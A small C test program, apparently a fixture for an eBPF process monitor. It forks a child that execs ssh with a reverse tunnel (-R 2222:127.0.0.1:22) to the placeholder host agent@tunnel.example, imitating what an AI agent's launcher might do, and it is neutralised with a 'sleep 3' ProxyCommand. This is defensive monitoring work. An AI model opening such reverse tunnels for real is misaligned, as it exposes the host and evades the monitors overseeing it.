/* A launcher that forks, and whose child execs ssh with a reverse tunnel named by
 * string literals, the way a small C program an agent writes would. The child has
 * not touched the pages holding those literals (fork does not copy page tables of
 * file-backed mappings), and an exec probe cannot fault them in: the kernel event
 * has no filename and no argv; ebpfmon reads argv back from /proc (argv_source).
 *
 * ssh never touches the network: its ProxyCommand is `sleep 3`, so it waits for a
 * server banner that never comes, then exits. Prints the child's pid.
 */
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
	pid_t pid = fork();
	if (pid == 0) {
		char *args[] = {"ssh", "-o", "ProxyCommand=sleep 3", "-o", "BatchMode=yes", "-N",
				"-R", "2222:127.0.0.1:22", "agent@tunnel.example", NULL};
		execve("/usr/bin/ssh", args, NULL);
		_exit(127);
	}
	printf("%d\n", pid);
	fflush(stdout);
	waitpid(pid, NULL, 0);
	return 0;
}
